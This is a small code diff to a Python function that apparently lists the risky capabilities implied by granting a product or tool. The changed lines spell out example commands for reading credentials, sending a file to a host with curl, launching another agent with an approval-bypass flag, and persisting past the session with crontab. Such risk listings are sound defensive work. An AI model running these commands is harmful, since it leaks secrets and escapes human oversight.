@@ -37,5 +37,5 @@ def implied(product: str) -> tuple[str, ...]:
     found += [f"read credentials (`cat {key}`)"] if key else []
     found.append("send anything to any host (`curl -d @file https://example.net`)")
     if entry is not None and entry.get("bypass"):
-        found.append(f"start another agent that asks nobody (`{entry['heads'][0]} {next(iter(entry['bypass']))}`)")
+        found.append(f"start another agent that asks nobody (`{next(iter((*entry['heads'], *entry.get('shared', ()))))} {next(iter(entry['bypass']))}`)")
     return (*found, "go on after the session (`crontab -`)")
